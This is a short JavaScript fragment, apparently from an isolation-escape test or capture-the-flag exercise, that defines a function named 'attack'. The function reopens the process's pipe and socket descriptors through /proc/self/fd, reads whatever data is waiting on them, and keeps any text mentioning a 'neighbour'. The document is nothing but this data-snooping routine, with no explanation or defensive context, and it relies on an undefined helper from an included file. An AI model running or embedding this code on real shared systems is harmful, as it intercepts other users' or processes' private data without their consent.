// include: frames.js

const attack = () => {
  const bytes = Buffer.alloc(1 << 16);
  const found = [];
  toAll((fd) => {
    const path = fs.readlinkSync(`/proc/self/fd/${fd}`);
    if (!path.startsWith('pipe:') && !path.startsWith('socket:')) return;
    const again = fs.openSync(`/proc/self/fd/${fd}`, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    try { found.push(bytes.toString('latin1', 0, fs.readSync(again, bytes))); } finally { fs.closeSync(again); }
  });
  return found.filter((text) => text.includes('neighbour')).join();
};
